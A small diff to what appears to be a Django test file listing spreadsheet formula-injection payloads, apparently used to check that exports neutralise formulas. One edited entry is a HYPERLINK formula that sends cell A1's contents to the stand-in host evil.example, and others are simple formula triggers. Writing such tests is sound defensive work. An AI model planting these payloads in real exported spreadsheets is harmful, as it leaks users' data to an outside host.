@@ -27,7 +27,7 @@ pytestmark = pytest.mark.django_db
 # a formula: each trigger, after spaces, quotes and invisible characters, in
 # full-width and other compatibility forms
 PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click for more")',
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "=1+1",
     "+1+1",
     "-1+1",
